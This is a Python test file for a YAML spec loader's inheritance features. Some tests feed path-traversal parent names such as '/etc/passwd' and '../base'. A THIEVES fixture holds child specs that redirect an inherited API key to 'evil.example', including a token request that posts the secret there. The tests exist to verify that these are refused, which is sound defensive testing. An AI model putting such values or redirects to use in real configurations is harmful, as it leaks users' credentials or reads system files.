"""`extends` and `unset`: what is inherited, where its problems are, and what may not be inherited."""

from __future__ import annotations

from pathlib import Path

import pytest

from engine import Catalog
from engine.errors import SpecError, UsageError
from engine.loader import load, problems_of
from engine.loader.resolved import resolved_lines

from .faults import fault

PARENT = """\
spec_version: 1
name: base
title: Base
abstract: true
auth: {type: bearer, secret: api_key}
params:
  temperature: {type: number, optional: true, max: 2, maps_to: temperature}
  seed: {type: integer, optional: true, maps_to: seed}
headers: {accept: text/event-stream}
path: /chat
payload: {model: "{{ model }}", messages: "{{ messages }}"}
response: {codec: sse, rules: [{text: delta}], end: "[DONE]"}
examples:
  - name: hi
    call: {messages: hi, model: m}
    reply: {text: "data: {\\"delta\\": \\"x\\"}\\n\\ndata: [DONE]\\n\\n"}
    expect: {text: x}
  - {name: no, call: {messages: hi, model: m}, reply: {status: 500, text: no}, expect: {error: unavailable}}
"""

CHILD = """\
spec_version: 1
name: child
extends: base
unset: [params.seed]
secrets: {api_key: {env: [CHILD_KEY]}}
url: https://child.example/v1
params: {temperature: {max: 1}, top_k: {type: integer, optional: true, maps_to: top_k}}
headers: {x-child: "1"}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "protocols").mkdir()
    put(tmp_path / "protocols", "base", PARENT)
    put(tmp_path, "child", CHILD)
    return tmp_path


def put(folder: Path, name: str, text: str) -> Path:
    path = folder / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def rules(path: Path) -> list[tuple[str, int, str]]:
    return [(Path(problem.file).stem, problem.line, problem.rule) for problem in problems_of(path)]


def test_maps_merge_deep_and_all_else_replaces(folder: Path) -> None:
    spec = load(folder / "child.yaml")
    assert (spec.name, spec.title, spec.is_abstract) == ("child", "child", False)
    assert list(spec.params) == ["temperature", "top_k"]
    assert (spec.params["temperature"].max, spec.params["temperature"].maps_to) == (1, "temperature")
    assert spec.headers == {"accept": "text/event-stream", "x-child": "1"}
    assert spec.payload == {"model": "{{ model }}", "messages": "{{ messages }}"}


def test_lists_are_replaced_whole(folder: Path) -> None:
    example = '[{name: e, call: {messages: x}, reply: {text: ""}, expect: {error: empty}}]'
    rule = f"response: {{rules: [{{text: other}}]}}\nexamples: {example}"
    spec = load(put(folder, "child", f"{CHILD}{rule}\n"))
    assert spec.response.stream is not None
    assert [dict(rule.yields) for rule in spec.response.stream.rules] == [{"text": "other"}]
    assert [example.name for example in spec.examples] == ["e"]


def test_an_example_remembers_where_it_is_written(folder: Path) -> None:
    example = load(folder / "child.yaml").examples[0]
    assert (Path(example.file).name, example.line) == ("base.yaml", 14)


def test_a_problem_in_what_is_inherited_names_both_files(folder: Path) -> None:
    put(folder / "protocols", "base", PARENT.replace("{{ messages }}", "{{ mesages }}"))
    (problem,) = problems_of(folder / "child.yaml")
    assert (Path(problem.file).name, problem.line, problem.column, problem.rule) == (
        "base.yaml",
        11,
        47,
        "undefined-variable",
    )
    assert f"inherited by {folder / 'child.yaml'}" in problem.message


def test_a_role_of_the_parent_s_that_the_child_has_no_messages_of_is_no_problem(folder: Path) -> None:
    put(folder / "protocols", "base", PARENT.replace("headers:", "messages: {roles: {developer: system}}\nheaders:", 1))
    field = 'messages: {system: field}\npayload: {system: "{{ system }}"}\n'
    assert problems_of(put(folder, "child", CHILD + field)) == []
    own = field.replace("field}", "field, roles: {system: s}}")
    (problem,) = problems_of(put(folder, "child", CHILD + own))
    assert (problem.rule, problem.path) == ("dead-rule", "messages.roles.system")


def test_a_problem_of_the_child_is_the_child_s(folder: Path) -> None:
    put(folder, "child", CHILD.replace("{max: 1}", "{max: high}"))
    assert rules(folder / "child.yaml") == [("child", 7, "wrong-type")]


def test_what_is_still_missing_is_told_at_extends(folder: Path) -> None:
    put(folder, "child", CHILD.replace("url: https://child.example/v1\n", ""))
    assert rules(folder / "child.yaml") == [("child", 3, "missing-key")]


@pytest.mark.parametrize(
    ("extends", "rule", "word"),
    [
        ("bas", "extends-missing", "did you mean 'base'?"),
        ("../base", "path-escape", "a name"),
        ("/etc/passwd", "path-escape", "a name"),
        ("~", "wrong-type", "null"),
        ("child", "extends-cycle", "child.yaml -> "),
        ("'%2e%2e'", "path-escape", "a name"),
    ],
)
def test_parents_that_cannot_be(folder: Path, extends: str, rule: str, word: str) -> None:
    put(folder, "child", CHILD.replace("extends: base", f"extends: {extends}"))
    problem = next(p for p in problems_of(folder / "child.yaml") if p.rule == rule)
    assert (problem.line, problem.column) == (3, 10)
    assert word in str(problem)


def test_a_circle_of_three_and_a_long_chain_end(folder: Path) -> None:
    for name, parent in (("a", "b"), ("b", "c"), ("c", "a")):
        put(folder, name, f"spec_version: 1\nname: {name}\nextends: {parent}\n")
    assert "extends-cycle" in {rule for _, _, rule in rules(folder / "a.yaml")}
    for number in range(12):
        put(folder, f"n{number}", f"spec_version: 1\nname: n{number}\nextends: n{number + 1}\n")
    put(folder, "n12", PARENT.replace("name: base", "name: n12"))
    assert "extends-depth" in {rule for _, _, rule in rules(folder / "n0.yaml")}


def test_a_parent_that_is_no_file_is_a_problem(folder: Path) -> None:
    put(folder / "protocols", "base", "- 1\n")
    assert "extends-missing" in {rule for _, _, rule in rules(folder / "child.yaml")}
    put(folder / "protocols", "base", "a: 'x\n")
    assert ("base", 1, "yaml-syntax") in rules(folder / "child.yaml")


def test_unset_of_what_is_not_there_is_a_warning(folder: Path) -> None:
    put(folder, "child", CHILD.replace("[params.seed]", "[params.sed]"))
    (problem,) = problems_of(folder / "child.yaml")
    assert (problem.rule, problem.severity, problem.line) == ("unset-missing", "warning", 4)


LIST = """\
response:
  codec: sse
  end: "[DONE]"
  rules:
    - {text: delta}
    - {reasoning: thought}
    - {reasoning: "bad..path"}
"""


def test_an_item_of_a_list_is_taken_out_and_what_is_behind_it_keeps_its_place(folder: Path) -> None:
    flat = 'response: {codec: sse, rules: [{text: delta}], end: "[DONE]"}\n'
    put(folder / "protocols", "base", PARENT.replace(flat, LIST))
    path = put(folder, "child", CHILD.replace("params.seed", "response.rules.1"))
    (problem,) = problems_of(path)
    assert (Path(problem.file).name, problem.line, problem.rule) == ("base.yaml", 18, "bad-path")
    put(folder, "child", CHILD.replace("params.seed", "response.rules.2, response.rules.1"))
    stream = load(folder / "child.yaml").response.stream
    assert stream is not None
    assert [rule.yields for rule in stream.rules] == [(("text", "delta"),)]


@pytest.mark.parametrize(
    "place", ["response.rules.1", "response.rules.-1", "response.rules.x", "response.rules.0.text.0"]
)
def test_unset_of_an_item_that_is_not_there_is_a_warning(folder: Path, place: str) -> None:
    put(folder, "child", CHILD.replace("params.seed", place))
    assert [problem.rule for problem in problems_of(folder / "child.yaml")] == ["unset-missing"]


def test_a_secret_does_not_follow_to_another_host(folder: Path) -> None:
    """Key theft by inheritance: a file that sends its calls elsewhere must name its own variable."""
    put(folder, "thief", "spec_version: 1\nname: thief\nextends: child\nurl: https://thief.example\n")
    assert rules(folder / "thief.yaml") == [("thief", 4, "secret-host-change")]
    own = "spec_version: 1\nname: own\nextends: child\nurl: https://own.example\nsecrets: {api_key: {env: [OWN]}}\n"
    assert rules(put(folder, "own", own)) == []
    assert rules(put(folder, "same", "spec_version: 1\nname: same\nextends: child\ntitle: Same\n")) == []


def test_a_protocol_is_valid_by_itself_and_is_no_provider(folder: Path) -> None:
    assert rules(folder / "protocols" / "base.yaml") == []
    catalog = Catalog(folder, folder / "protocols")
    with pytest.raises(UsageError, match="extends it"):
        catalog.provider("base").render("hi")


def test_a_provider_without_parent_still_needs_everything(folder: Path) -> None:
    put(folder, "child", CHILD.replace("extends: base\n", "").replace("unset: [params.seed]\n", ""))
    with pytest.raises(SpecError) as caught:
        load(folder / "child.yaml")
    assert [p.message for p in caught.value.problems if p.rule == "missing-key"]


def test_the_catalog_finds_parents_in_all_of_its_folders(folder: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (folder / "child.yaml").rename(elsewhere / "child.yaml")
    assert Catalog(elsewhere, folder).spec("child").path == "/chat"
    with pytest.raises(SpecError, match="extends-missing"):
        Catalog(elsewhere).spec("child")


def test_resolved_lines_name_the_file_of_each_value(folder: Path) -> None:
    lines = dict(resolved_lines(folder / "child.yaml"))
    assert lines['url: "https://child.example/v1"'].endswith("child.yaml:6")
    assert lines['path: "/chat"'].endswith("base.yaml:10")
    assert lines["    max: 1"].endswith("child.yaml:7")
    assert not [line for line in lines if "extends" in line or "seed" in line]


def test_a_map_that_is_empty_in_a_child_says_nothing_and_is_a_mistake(folder: Path) -> None:
    """What it inherits would hide it, and the schema in an editor, which sees the file alone, refuses it."""
    child = put(folder, "child", CHILD + "messages: {}\n")
    put(folder / "protocols", "base", PARENT + "messages: {drop_empty: true}\n")
    assert rules(child) == [("child", 9, "empty-value")]


def test_of_a_child_without_its_parent_nothing_is_missing(folder: Path) -> None:
    child = put(folder, "child", CHILD.replace("extends: base", "extends: bass"))
    assert rules(child) == [("child", 3, "extends-missing")]


@pytest.mark.parametrize("unset", ["5", "true", "{a: b}", "text"])
def test_an_unset_that_is_no_list_is_refused(folder: Path, unset: str) -> None:
    child = put(folder, "child", CHILD.replace("[params.seed]", unset))
    assert ("child", 4, "wrong-type") in rules(child)
    patch = f"models: {{patches: [{{match: a, unset: {unset}}}]}}\n"
    assert ("child", 9, "wrong-type") in rules(put(folder, "child", CHILD + patch))


MINE = """\
spec_version: 1
name: mine
extends: base
settings: {sub: {type: string, default: api}, zone: {type: string, default: acme}, port: {type: integer, default: 443}}
secrets: {api_key: {env: [MINE_KEY]}}
url: "https://{{ sub }}.{{ zone }}.example:{{ port }}/v1"
"""

THIEVES = {
    "a url": "url: https://evil.example/v1",
    "the same host": "url: https://api.acme.example/v1",
    "another port": 'url: "https://{{ sub }}.{{ zone }}.example:8443/v1"',
    "another path": 'url: "https://{{ sub }}.{{ zone }}.example:{{ port }}/other"',
    "http": 'url: "http://{{ sub }}.{{ zone }}.example:{{ port }}/v1"',
    "loopback": "url: http://127.0.0.1:9",
    "a url in place of one that was taken out": "unset: [url]\nurl: https://evil.example",
    "a setting that says whose host it is": "settings: {zone: {default: evil}}",
    "the words that such a setting may have": "settings: {zone: {enum: [evil], default: evil}}",
    "a setting that is the port": "settings: {port: {default: 8443}}",
    "a step": "steps: [{name: s, url: https://evil.example, path: /x, read: {t: {json: t}}}]",
    "a token request": 'auth: {type: oauth2, token: {url: https://evil.example, form: {k: "{{ secrets.api_key }}"},'
    " value: t}}",
    "a host that takes credentials": "hosts: [{name: stream.evil.example, auth: true}]",
    "a secret that is its own but for the variable": "url: https://evil.example\nsecrets: {api_key: {optional: true}}",
}


@fault("Secrets", "a file extends another and sends its calls elsewhere", "refused before any call: secret-host-change")
@pytest.mark.parametrize("theft", THIEVES)
def test_a_secret_is_not_inherited_to_another_place(folder: Path, theft: str) -> None:
    put(folder, "mine", MINE)
    assert problems_of(folder / "mine.yaml") == []
    thief = put(folder, "thief", f"spec_version: 1\nname: thief\nextends: mine\n{THIEVES[theft]}\n")
    assert "secret-host-change" in [problem.rule for problem in problems_of(thief)]
    with pytest.raises(SpecError):
        Catalog(folder).provider("thief")


def test_a_secret_is_not_inherited_by_way_of_a_file_that_takes_the_url_out(folder: Path) -> None:
    put(folder, "mine", MINE)
    put(folder, "fence", "spec_version: 1\nname: fence\nabstract: true\nextends: mine\nunset: [url]\n")
    thief = put(folder, "thief", "spec_version: 1\nname: thief\nextends: fence\nurl: https://evil.example/v1\n")
    assert ("thief", 4, "secret-host-change") in rules(thief)


@pytest.mark.parametrize("own", ["settings: {sub: {default: eu}}", "path: //evil.example/x", "headers: {x-a: b}"])
def test_what_stays_with_the_owner_of_the_host_is_inherited_with_the_secret(folder: Path, own: str) -> None:
    put(folder, "mine", MINE)
    child = put(folder, "kid", f"spec_version: 1\nname: kid\nextends: mine\n{own}\n")
    assert problems_of(child) == []
